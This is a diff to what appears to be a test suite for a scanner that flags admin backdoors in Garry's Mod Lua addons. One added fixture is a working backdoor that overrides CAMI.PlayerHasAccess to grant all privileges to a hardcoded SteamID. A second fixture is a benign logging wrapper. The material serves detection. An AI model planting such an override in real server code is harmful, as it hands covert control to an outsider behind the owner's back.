@@ -303,6 +303,37 @@ describe('superadmin', () => {
     });
     expect(findings).toEqual([]);
   });
+  it("CAMI's permission check replaced at start-up to let listed IDs through", () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_compat.lua': [
+        'hook.Add("Initialize", "cami_compat", function()',
+        ' local testers = { ["76561198351740229"] = true }',
+        ' local old = CAMI.PlayerHasAccess',
+        ' function CAMI.PlayerHasAccess(ply, priv, cb, ...)',
+        '  if testers[ply:SteamID64()] then if cb then cb(true, "") end return true end',
+        '  return old(ply, priv, cb, ...)',
+        ' end',
+        'end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBe(RANK.critical);
+    expect(findings.some((f) => f.pattern.includes('CAMI.PlayerHasAccess'))).toBe(true);
+  });
+  it("ULib's ucl.query wrapped to log what is asked (no finding)", () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_audit.lua': [
+        'hook.Add("Initialize", "perm_audit", function()',
+        ' local query = ULib.ucl.query',
+        ' function ULib.ucl.query(ply, access, hide)',
+        '  local ok = query(ply, access, hide)',
+        '  if not ok and IsValid(ply) then ServerLog(ply:Nick() .. " denied " .. tostring(access) .. "\\n") end',
+        '  return ok',
+        ' end',
+        'end)',
+      ].join('\n'),
+    });
+    expect(findings).toEqual([]);
+  });
   it("ranks from a web reply written straight into ULib's user records", () => {
     const findings = check(rule, {
       'lua/autorun/server/sv_sync.lua': [
